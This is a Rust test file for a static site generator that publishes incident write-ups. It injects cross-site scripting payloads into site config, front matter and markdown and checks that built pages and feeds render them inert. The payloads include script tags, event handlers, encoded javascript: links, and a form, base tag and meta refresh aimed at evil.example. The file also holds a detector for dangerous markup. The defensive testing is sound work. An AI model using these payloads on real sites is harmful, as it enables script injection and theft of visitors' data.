//! Nothing from the content can run, load or restyle anything: the markdown body is sanitised and
//! every front matter string is escaped, on every page.

use scraper::{ElementRef, Html};

use crate::common::*;

/// Breaks out of an element and opens a script.
const TAG: &str = r#""><script>alert(1)</script>"#;
/// Breaks out of a double-quoted attribute and adds a handler.
const ATTR: &str = r#"" onmouseover="alert(1)"#;
/// Breaks out of a single-quoted attribute with an element that runs on error.
const IMG: &str = r#"'><img src=x onerror=alert(1)>"#;

/// `text` as a single-quoted YAML scalar.
fn yaml(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

/// All three payloads around a word that tells the fields apart.
fn payload(field: &str) -> String {
    format!("{field} {TAG} {ATTR} {IMG}")
}

const BODY: &str = r#"
## What almost failed

The first paragraph <script>alert('summary')</script> is the summary.

<script>alert('body-script')</script>

<img src=x onerror="alert('img')">

<a href="javascript:alert('a')" onclick="alert('click')">raw js link</a>

[markdown js link](javascript:alert(1)) and [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<javascript:alert(1)> is an autolink.

<a href="jav&#x61;script:alert('entity')">entity link</a> <a href="  JaVaScRiPt:alert(1)">mixed case</a> <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a> <a href="vbscript:msgbox(1)">vb link</a>

<svg onload="alert('svg')"><circle r="1"/><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>

<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">

<style>body { display: none }</style>

<p style="position:fixed;top:0;left:0;width:100%;height:100%">styled paragraph</p>

<form action="https://evil.example/steal"><button formaction="javascript:alert(1)">go</button></form>

<div onclick="alert(1)" onmouseover="alert(2)">div with handlers</div>

<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">

<math><mi xlink:href="javascript:alert(1)">math link</mi></math>

<details open ontoggle="alert(1)"><summary>details</summary>text</details>

| a | b |
|:--|--:|
| <span style="color:red">cell</span> | <td style="background:url(javascript:alert(1))">x</td> |

`<script>code span</script>` and:

```html
<script>alert('code block')</script>
```

## What stopped it

Sanitising.

## What would have happened

Script in every reader's browser.

## Why it happened

Content is written by many people.

## What we learned

Escape everything.

## How we make luck unnecessary

A sanitiser with an allow-list.
"#;

fn fixture() -> Fixture {
    let site = format!(
        "title: {}\ndescription: {}\nbase_url: https://example.org/kb/\nroles:\n  - slug: evil-role\n    name: {}\n    \
         description: {}\n  - slug: evil-owner\n    name: {}\n    description: {}\n",
        yaml(&payload("site-title")),
        yaml(&payload("site-description")),
        yaml(&payload("role")),
        yaml(&payload("role-description")),
        yaml(&payload("action-owner")),
        yaml(&payload("owner-description"))
    );
    let pattern = format!(
        "---\ntitle: {}\nrisk: {}\nsignals: [{}]\ncontrols: [{}]\n---\n\nPattern body <script>alert('pattern')</script> [x](javascript:alert(1)).\n",
        yaml(&payload("pattern-title")),
        yaml(&payload("pattern-risk")),
        yaml(&payload("pattern-signal")),
        yaml(&payload("pattern-control")),
    );
    let front = format!(
        "id: NM-0001\ntitle: {title}\nstatus: approved\ntlp: clear\noccurred: 2025-03-04\nreported: 2025-03-06\n\
         reviewed: 2025-03-12\npatterns: [evil]\nseverity: high\nstopped_by: human\ndetection: {detection}\n\
         impact_area: [{impact}]\nroles: [{role}]\nsystems: [{system}]\nteam: {team}\ntags: [{tag1}, {tag2}]\n\
         actions:\n  - what: {what}\n    owner_role: {owner}\n    due: 2025-04-01\n    status: open\n",
        title = yaml(&payload("writeup-title")),
        detection = yaml(&payload("detection")),
        impact = yaml(&payload("impact")),
        role = "evil-role",
        system = yaml(&payload("system")),
        team = yaml(&payload("team")),
        tag1 = yaml(TAG),
        tag2 = yaml(ATTR),
        what = yaml(&payload("action-what")),
        owner = "evil-owner",
    );
    Fixture::new()
        .file("site.yaml", &site)
        .file("patterns/evil.md", &pattern)
        .file("writeups/2025/evil.md", &writeup_with_body(&front, BODY))
}

fn built() -> (Fixture, Built) {
    let f = fixture();
    let built = f.build();
    built.assert_success();
    (f, built)
}

/// A URL attribute value as a browser reads it: control characters and spaces dropped.
fn scheme_of(value: &str) -> String {
    value.chars().filter(|c| !c.is_ascii_whitespace() && !c.is_control()).collect::<String>().to_ascii_lowercase()
}

/// What the theme itself may put in a style attribute: the bars of its breakdown charts.
fn theme_style(el: &ElementRef<'_>, value: &str) -> bool {
    let class = el.value().attr("class").unwrap_or("");
    let width = value.strip_prefix("width: ").and_then(|v| v.strip_suffix('%'));
    class.split_whitespace().any(|c| c == "breakdown-fill") && width.is_some_and(|w| w.parse::<u32>().is_ok())
}

/// Content may only align table cells.
fn alignment_style(el: &ElementRef<'_>, value: &str) -> bool {
    matches!(el.value().name(), "th" | "td")
        && ["text-align:left", "text-align:right", "text-align:center"]
            .contains(&value.trim_end_matches(';').replace(' ', "").as_str())
}

/// Every way a page could run or load something it should not. `theme_css` is the theme's style
/// sheet: 404.html may carry exactly that inline, with its own policy allowing it.
fn dangers(page: &str, html: &Html, theme_css: &str) -> Vec<String> {
    let mut found = Vec::new();
    for el in html.root_element().descendants().filter_map(ElementRef::wrap) {
        let name = el.value().name();
        match name {
            "script" => {
                let src = el.value().attr("src").unwrap_or("");
                if !src.contains("assets/") || has_scheme(src) {
                    found.push(format!("{page}: <script> {}", el.html()));
                }
            }
            // The theme's own search box; content cannot make an `nm-` id.
            "form" if el.value().id() == Some("nm-search") && el.value().attr("action") == Some("search.html") => {}
            // The theme's report form, which submits nowhere: its script makes a file of it.
            "form" if el.value().id() == Some("nm-report") && el.value().attr("action").is_none() => {}
            // The theme's own list filters (no action: the script reads them) and home search box.
            "form" if el.value().id() == Some("nm-filters") && el.value().attr("action").is_none() => {}
            "form"
                if el.value().classes().any(|c| c == "home-search")
                    && el.value().attr("action").is_some_and(|a| a.ends_with("search.html") && !has_scheme(a)) => {}
            "style" if page == "404.html" && el.text().collect::<String>() == theme_css => {}
            "meta"
                if page == "404.html"
                    && el
                        .value()
                        .attr("http-equiv")
                        .is_some_and(|h| h.eq_ignore_ascii_case("content-security-policy")) => {}
            "iframe" | "frame" | "frameset" | "object" | "embed" | "form" | "base" | "applet" | "style" => {
                found.push(format!("{page}: <{name}>"))
            }
            "meta" if el.value().attr("http-equiv").is_some() => found.push(format!("{page}: <meta http-equiv>")),
            "link" => {
                let href = el.value().attr("href").unwrap_or("");
                let rel = el.value().attr("rel").unwrap_or("");
                if rel.contains("stylesheet") && (has_scheme(href) || !href.ends_with("assets/style.css")) {
                    found.push(format!("{page}: stylesheet {href}"));
                }
            }
            _ => {}
        }
        for (attr, value) in el.value().attrs() {
            let lower = attr.to_ascii_lowercase();
            if lower.starts_with("on") {
                found.push(format!("{page}: <{name} {attr}=\"{value}\">"));
            }
            let url = scheme_of(value);
            if ["javascript:", "vbscript:", "data:"].iter().any(|s| url.starts_with(s)) {
                found.push(format!("{page}: <{name} {attr}=\"{value}\">"));
            }
            let harmless = value.trim().is_empty() || theme_style(&el, value) || alignment_style(&el, value);
            if lower == "style" && !harmless {
                found.push(format!("{page}: <{name} style=\"{value}\">"));
            }
            if lower == "srcdoc" || lower == "formaction" {
                found.push(format!("{page}: <{name} {attr}>"));
            }
        }
    }
    found
}

#[test]
fn no_page_can_run_load_or_restyle_anything() {
    let (_f, built) = built();
    assert!(built.exists("writeups/nm-0001.html") && built.exists("patterns/evil.html"));
    let mut found = Vec::new();
    for page in built.html_files() {
        found.extend(dangers(&page, &built.page(&page), &built.text("assets/style.css")));
    }
    assert!(found.is_empty(), "dangerous markup survived:\n{}", found.join("\n"));
}

#[test]
fn the_example_theme_ships_only_its_own_scripts_and_styles() {
    let (_f, built) = build_example(&[]);
    let mut found = Vec::new();
    for page in built.html_files() {
        found.extend(dangers(&page, &built.page(&page), &built.text("assets/style.css")));
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn content_cannot_add_form_controls() {
    let f = fixture();
    let body = BODY.replace(
        "Sanitising.",
        "Sanitising. <input name=\"password\" type=\"password\" placeholder=\"Password\"> <input type=\"text\"> <textarea>t</textarea> <select><option>o</option></select> <button>b</button>",
    );
    let text = std::fs::read_to_string(f.content().join("writeups/2025/evil.md")).unwrap().replace(BODY, &body);
    f.write("writeups/2025/evil.md", &text);
    let built = f.build();
    built.assert_success();
    let page = built.page("writeups/nm-0001.html");
    for el in page.select(&sel("main input, main textarea, main select, main button")) {
        let v = el.value();
        let task_box = v.name() == "input" && v.attr("type") == Some("checkbox") && v.attr("disabled").is_some();
        assert!(task_box, "a form control other than a task-list checkbox survived: {}", el.html());
    }
}

#[test]
fn front_matter_strings_are_shown_as_text() {
    let (_f, built) = built();
    let page = built.page("writeups/nm-0001.html");
    let shown = |css: &str, field: &str| {
        let all = texts(&page, css);
        assert!(
            all.iter().any(|t| t.contains(&normalise_ws(&payload(field)))),
            "{css} does not show the {field} payload as text: {all:?}"
        );
    };
    shown("h1", "writeup-title");
    shown("title", "writeup-title");
    shown(".facts dd", "detection");
    shown(".facts dd", "team");
    shown(".facts dd li", "role");
    shown(".facts dd li", "system");
    shown(".facts dd li", "impact");
    shown(".actions-table tbody th", "action-what");
    shown(".actions-table tbody td", "action-owner");
    shown(".brand-name", "site-title");
    let tags = texts(&page, ".facts a.tag");
    assert!(tags.contains(&format!("#{TAG}")) && tags.contains(&format!("#{ATTR}")), "{tags:?}");
    let description = attrs(&built.page("index.html"), "meta[name=description]", "content");
    assert_eq!(description, [payload("site-description")]);

    let pattern = built.page("patterns/evil.html");
    assert!(text_of(&pattern, "h1").contains(&payload("pattern-title")));
    assert!(text_of(&pattern, ".risk .lede").contains(&payload("pattern-risk")));
    assert_eq!(texts(&pattern, ".signals li"), [payload("pattern-signal")]);
    assert_eq!(texts(&pattern, ".controls li"), [payload("pattern-control")]);
    // The chart's SVG title carries the pattern title too.
    assert!(texts(&pattern, "svg title").iter().any(|t| t.contains(&payload("pattern-title"))));

    let tag_pages = built.tag_pages();
    assert_eq!(tag_pages.len(), 2, "{tag_pages:?}");
    for tag in tag_pages {
        let h1 = text_of(&built.page(&tag), "h1");
        assert!(h1.contains(TAG) || h1.contains(ATTR), "{tag}: {h1}");
    }
}

#[test]
fn body_payloads_are_inert_and_code_is_shown() {
    let (_f, built) = built();
    let page = built.page("writeups/nm-0001.html");
    let prose = text_of(&page, ".prose");
    assert!(prose.contains("<script>code span</script>"), "{prose}");
    assert!(prose.contains("<script>alert('code block')</script>"), "{prose}");
    for words in [
        "raw js link",
        "markdown js link",
        "data link",
        "entity link",
        "mixed case",
        "styled paragraph",
        "div with handlers",
    ] {
        assert!(prose.contains(words), "the text `{words}` was lost: {prose}");
    }
    // Scripts are dropped with their content, not shown as text.
    assert!(!prose.contains("body-script"), "{prose}");
}

#[test]
fn feeds_and_text_files_escape_front_matter() {
    let (_f, built) = built();
    for file in ["atom.xml", "sitemap.xml"] {
        let text = built.text(file);
        assert!(!text.contains("<script"), "{file} has a raw <script>:\n{text}");
        assert!(!text.contains("<img"), "{file} has a raw <img>:\n{text}");
        assert!(!text.contains(r#"" onmouseover="#), "{file} has a raw attribute break-out:\n{text}");
    }
    assert!(built.text("atom.xml").contains("&lt;script&gt;"), "the title should be escaped in the feed");
}

#[test]
fn a_base_url_cannot_break_out_of_attributes() {
    let f = Fixture::minimal();
    let evil = r#"https://example.org/kb"><script>alert(1)</script>/"#;
    let built = f.build_to("out", &["--base-url", evil]);
    if !built.run.success {
        built.run.assert_contains("is not a usable base URL");
        return;
    }
    let mut found = Vec::new();
    for page in built.html_files() {
        found.extend(dangers(&page, &built.page(&page), &built.text("assets/style.css")));
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
    for file in ["sitemap.xml", "atom.xml"] {
        assert!(!built.text(file).contains("<script"), "{file}");
    }
}
